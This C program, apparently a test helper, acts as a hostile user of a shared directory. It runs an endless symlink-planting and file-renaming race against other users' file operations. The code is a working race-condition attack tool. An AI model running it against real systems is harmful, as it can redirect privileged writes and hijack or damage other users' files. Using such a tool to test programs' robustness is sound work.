/* A hostile user of a directory that others use too. It goes on until it is killed:
 *
 *   hostile plant NAME TARGET   whatever is made under the name is moved away at once, and a symbolic
 *                               link to the target takes its place for a moment
 *   hostile swap FILE NAME      a file of another user gets the name and loses it again */
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void plant(const char *name, const char *target)
{
	char away[4096];

	for (unsigned number = 0;; number++) {
		snprintf(away, sizeof away, "%s.away-%u", name, number);
		while (rename(name, away))
			;
		if (!symlink(target, name))
			usleep(300);
		unlink(name);
	}
}

static void swap(const char *file, const char *name)
{
	for (;;) {
		rename(file, name);
		usleep(50);
		rename(name, file);
		usleep(10);
	}
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 64;
	if (!strcmp(argv[1], "plant"))
		plant(argv[2], argv[3]);
	else
		swap(argv[2], argv[3]);
}
